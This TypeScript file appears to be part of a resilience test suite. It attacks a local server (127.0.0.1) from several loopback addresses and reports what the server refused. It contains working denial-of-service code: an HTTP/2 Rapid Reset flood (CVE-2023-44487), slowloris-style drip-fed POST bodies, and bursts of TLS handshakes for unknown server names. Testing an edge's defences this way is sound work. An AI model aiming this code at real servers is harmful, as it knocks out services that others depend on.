import { once } from 'node:events';
import { connect as connectHttp2, constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import type { AttackOrder, AttackSeen } from './attack.js';

/** `attack-main.js ORDER`: attacks one server from ten addresses and prints what it did as JSON. */
const { port, servedName, unknownNames } = JSON.parse(process.argv[2] ?? '') as AttackOrder; // by `attack`
const ASKERS = 8;
const SLOW_AT_ONCE = 100;
const RESETS_AT_ONCE = 100;
const DRIP_MS = 100;
/** Between bursts: leaves time for the other attacks of this process. */
const BURST_PAUSE_MS = 20;
const LIMIT_MS = 5_000;

const target = { host: '127.0.0.1', port, rejectUnauthorized: false } as const;
/** Addresses of the attackers. The edge limits each address, so each client that requests names has its own. */
const resetter = '127.0.0.2';
const slow = '127.0.0.3';
const asker = (index: number) => `127.0.0.${4 + index}`;
const seen = { refusedNames: 0, resets: 0, slowBodies: 0 };
const ending = new AbortController();

void resetRapidly();
for (let index = 0; index < SLOW_AT_ONCE; index++) void dripBodies();
await askForUnknownNames();
ending.abort();
process.stdout.write(JSON.stringify(seen satisfies AttackSeen), () => process.exit(0));

async function askForUnknownNames(): Promise<void> {
  let next = 0;
  const ask = async (_: unknown, index: number) => {
    while (next < unknownNames) {
      const socket = open(asker(index), `unknown-${next++}.nowhere.test`, ['http/1.1']);
      await ended(socket);
      seen.refusedNames += 1;
    }
  };
  await Promise.all(Array.from({ length: ASKERS }, ask));
}

/** CVE-2023-44487: requests that are cancelled at once, on one session after another. */
async function resetRapidly(): Promise<void> {
  while (!ending.signal.aborted) {
    const socket = open(resetter, servedName, ['h2']);
    const session = connectHttp2(`https://${servedName}`, { createConnection: () => socket });
    session.on('error', () => undefined); // the edge ends it, as expected
    while (!session.closed && !session.destroyed) {
      for (let index = 0; index < RESETS_AT_ONCE && !session.closed && !session.destroyed; index++) {
        const stream = session.request({ ':path': '/' });
        stream.on('error', () => undefined);
        stream.close(constants.NGHTTP2_CANCEL);
        seen.resets += 1;
      }
      await sleep(BURST_PAUSE_MS);
    }
    await sleep(BURST_PAUSE_MS);
  }
}

async function dripBodies(): Promise<void> {
  while (!ending.signal.aborted) {
    const socket = open(slow, servedName, ['http/1.1']);
    socket.write(`POST / HTTP/1.1\r\nHost: ${servedName}\r\nContent-Length: 1000000\r\n\r\n`);
    seen.slowBodies += 1;
    const drip = setInterval(() => socket.write('x'), DRIP_MS);
    await ended(socket);
    clearInterval(drip);
    await sleep(DRIP_MS);
  }
}

function open(localAddress: string, servername: string, ALPNProtocols: string[]): TLSSocket {
  const options = { ...target, localAddress, servername, ALPNProtocols };
  const socket = connect(options);
  socket.on('error', () => undefined); // `close` follows
  return socket.resume();
}

async function ended(socket: TLSSocket): Promise<void> {
  await once(socket, 'close', { signal: AbortSignal.timeout(LIMIT_MS) }).catch(() => socket.destroy());
}
